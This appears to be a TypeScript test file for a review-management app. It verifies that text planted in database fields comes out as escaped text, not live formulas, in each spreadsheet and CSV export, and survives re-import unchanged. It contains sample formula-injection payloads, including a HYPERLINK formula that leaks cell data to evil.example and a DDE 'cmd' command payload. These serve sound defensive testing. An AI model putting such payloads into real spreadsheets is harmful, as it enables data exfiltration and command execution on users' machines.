/**
 * Formula injection in every export (issue 12, point 14): hostile text planted in the text fields
 * that reach a spreadsheet — institution names, contacts, venues, expert names and units, score
 * comments, the audit log's actor — comes out as text in the results workbook, the audit log (CSV
 * and Excel), the offline score workbook, the intake list export and the expert list export; the
 * intake list and the expert list re-import to exactly what was exported.
 */
import ExcelJS from 'exceljs';
import { eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { memoryDb, type Db } from '../../src/lib/server/db';
import * as s from '../../src/lib/server/db/schema';
import { SYSTEM_ACTOR, audit, verifyAudit } from '../../src/lib/server/audit';
import { importBundle } from '../../src/lib/server/services/bundle-import';
import { generateDemoBundle } from '../../src/lib/server/demo/generate';
import { buildWorkbookData } from '../../src/lib/server/export/memo-data';
import { renderResultsWorkbook } from '../../src/lib/server/export/xlsx';
import { auditExportRows, renderAuditCsv, renderAuditWorkbook } from '../../src/lib/server/export/audit';
import { buildOfflineWorkbook } from '../../src/lib/server/export/offline-sheet';
import { exportListWorkbook, parseListFilter } from '../../src/lib/server/services/intake-files';
import { parseExpertWorkbook, renderExpertWorkbook } from '../../src/lib/server/import/experts-xlsx';
import { parseIntakeWorkbook } from '../../src/lib/server/import/xlsx';
import { loadExperts } from '../../src/lib/server/queries/bundle';
import { requireScope } from '../../src/lib/server/scope';

const HOSTILE = {
	hyperlink: '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
	fullEquals: '＝1+1',
	fullPlus: '＋SUM(A1:A9)',
	fullMinus: '－2+3',
	fullAt: '＠SUM(1)',
	plus: '+cmd|\' /C calc\'!A0',
	minus: '-2+3',
	at: '@SUM(1)',
	tab: '\t=1+1',
	cr: '\r=1+1'
};
const TRIGGER = /^[=+\-@＝＋－＠\t\r\n]/;

/** The demo batch with hostile text in every kind of field that an export writes. */
function hostileDb(): { db: Db; expertId: string; appId: string } {
	const db = memoryDb();
	importBundle(db, generateDemoBundle(), SYSTEM_ACTOR);
	const c = db.$client;
	const scored = c.prepare(`SELECT application_id AS app, expert_id AS expert FROM score_sheets WHERE status = 'submitted' ORDER BY application_id, expert_id LIMIT 1`).get() as { app: string; expert: string };
	const inst = c.prepare('SELECT institution_id FROM applications WHERE id = ?').pluck().get(scored.app) as string;
	c.prepare('UPDATE institutions SET name = ?, address = ?, legal_rep_name = ? WHERE id = ?').run(HOSTILE.hyperlink, HOSTILE.fullPlus, HOSTILE.plus, inst);
	c.prepare(`UPDATE application_people SET name = ? WHERE application_id = ? AND position = 0`).run(HOSTILE.at, scored.app);
	c.prepare('UPDATE applications SET lead_name = ?, contact_name = ? WHERE id = ?').run(HOSTILE.fullEquals, HOSTILE.minus, scored.app);
	c.prepare('UPDATE application_venues SET address = ? WHERE application_id = ?').run(HOSTILE.tab, scored.app);
	// The roster is published (the bundle does not carry the publication).
	c.prepare('UPDATE batches SET assignments_published_at = ?').run(new Date().toISOString());
	c.prepare('UPDATE experts SET name = ?, work_unit = ?, title = ? WHERE id = ?').run(HOSTILE.fullMinus, HOSTILE.fullAt, HOSTILE.cr, scored.expert);
	c.prepare('UPDATE score_sheets SET comment = ? WHERE application_id = ? AND expert_id = ?').run(HOSTILE.fullPlus, scored.app, scored.expert);
	c.prepare('UPDATE sheet_points SET comment = ? WHERE sheet_id = (SELECT id FROM score_sheets WHERE application_id = ? AND expert_id = ?)').run(HOSTILE.fullMinus, scored.app, scored.expert);
	db.transaction((tx) => audit(tx, { userId: null, name: HOSTILE.fullAt }, 'test.hostile', 'application', scored.app, { note: HOSTILE.hyperlink }));
	return { db, expertId: scored.expert, appId: scored.app };
}

/** Every text cell of a workbook (string or rich text), and every formula. */
async function cellsOf(buf: Buffer): Promise<{ texts: string[]; formulas: string[] }> {
	const wb = new ExcelJS.Workbook();
	await wb.xlsx.load(buf as unknown as ArrayBuffer);
	const texts: string[] = [];
	const formulas: string[] = [];
	for (const ws of wb.worksheets) {
		ws.eachRow({ includeEmpty: false }, (row) =>
			row.eachCell({ includeEmpty: false }, (cell) => {
				const v = cell.value;
				if (typeof v === 'string') texts.push(v);
				else if (v && typeof v === 'object' && 'richText' in v) texts.push(v.richText.map((r) => r.text).join(''));
				else if (v && typeof v === 'object' && ('formula' in v || 'sharedFormula' in v)) formulas.push(String((v as { formula?: string }).formula ?? ''));
			})
		);
	}
	return { texts, formulas };
}

/** No text starts like a formula; the planted texts are there, each behind one apostrophe; no planted formula became one. */
function expectEscaped(texts: string[], formulas: string[], planted: string[]) {
	const bad = texts.filter((t) => TRIGGER.test(t));
	expect(bad, `未转义的单元格：${JSON.stringify(bad)}`).toEqual([]);
	for (const p of planted) expect(texts.some((t) => t.includes(`'${p}`)), `导出中没有转义后的 ${JSON.stringify(p)}`).toBe(true);
	expect(formulas.filter((f) => /HYPERLINK|cmd|＋|＝/i.test(f))).toEqual([]);
}

describe('formula escaping in every export', () => {
	const { db, expertId, appId } = hostileDb();

	it('the results workbook (score summary, proposed list, workload, audit log)', async () => {
		const { texts, formulas } = await cellsOf(await renderResultsWorkbook(buildWorkbookData(requireScope(db))));
		expectEscaped(texts, formulas, [HOSTILE.hyperlink, HOSTILE.fullMinus, HOSTILE.fullAt]);
	});

	it('the audit log as CSV and as Excel', async () => {
		const rows = auditExportRows(db);
		const csv = renderAuditCsv(rows).toString('utf8').replace(/^\uFEFF/, '');
		// Fields as a spreadsheet reads them: split on commas outside quotes, quotes removed.
		const fields = csv
			.split('\r\n')
			.flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [])
			.map((f) => f.replace(/,$/, '').replace(/^"(.*)"$/s, '$1').replace(/""/g, '"'));
		expect(fields.filter((f) => TRIGGER.test(f))).toEqual([]);
		expect(fields).toContain(`'${HOSTILE.fullAt}`);
		const { texts, formulas } = await cellsOf(await renderAuditWorkbook(rows, verifyAudit(db)));
		expectEscaped(texts, formulas, [HOSTILE.fullAt]);
	});

	it("the expert's offline score workbook", async () => {
		const { texts, formulas } = await cellsOf((await buildOfflineWorkbook(requireScope(db), expertId)).buffer);
		expectEscaped(texts, formulas, [HOSTILE.hyperlink, HOSTILE.fullPlus, HOSTILE.fullMinus]);
	});

	it('the intake list export, which re-imports to exactly the planted text', async () => {
		const filter = parseListFilter(new URLSearchParams());
		if ('error' in filter) throw new Error(filter.error);
		const out = await exportListWorkbook(requireScope(db), filter.filter, SYSTEM_ACTOR);
		const { texts, formulas } = await cellsOf(out.body);
		expectEscaped(texts, formulas, [HOSTILE.hyperlink, HOSTILE.fullPlus, HOSTILE.plus, HOSTILE.at, HOSTILE.fullEquals, HOSTILE.minus, HOSTILE.tab]);
		const back = await parseIntakeWorkbook(out.body);
		const inst = db.select().from(s.institutions).where(eq(s.institutions.name, HOSTILE.hyperlink)).get()!;
		const again = back.bundle.institutions.find((i) => i.uscc === inst.uscc)!;
		expect(again.name).toBe(HOSTILE.hyperlink);
		expect(again.address).toBe(HOSTILE.fullPlus);
		expect(again.legalRep?.name).toBe(HOSTILE.plus);
		const app = back.bundle.applications.find((a) => a.id === appId)!;
		expect([app.lead?.name, app.contact?.name]).toEqual([HOSTILE.fullEquals, HOSTILE.minus]);
		expect(app.people.map((p) => p.name)).toContain(HOSTILE.at);
	});

	it('the expert list export, which re-imports to exactly the planted text', async () => {
		const buf = await renderExpertWorkbook(loadExperts(db));
		const { texts, formulas } = await cellsOf(buf);
		expectEscaped(texts, formulas, [HOSTILE.fullMinus, HOSTILE.fullAt]);
		const back = await parseExpertWorkbook(buf);
		const row = back.rows.find((r) => r.values.id === expertId)!;
		expect(row.values).toMatchObject({ name: HOSTILE.fullMinus, workUnit: HOSTILE.fullAt });
	});
});
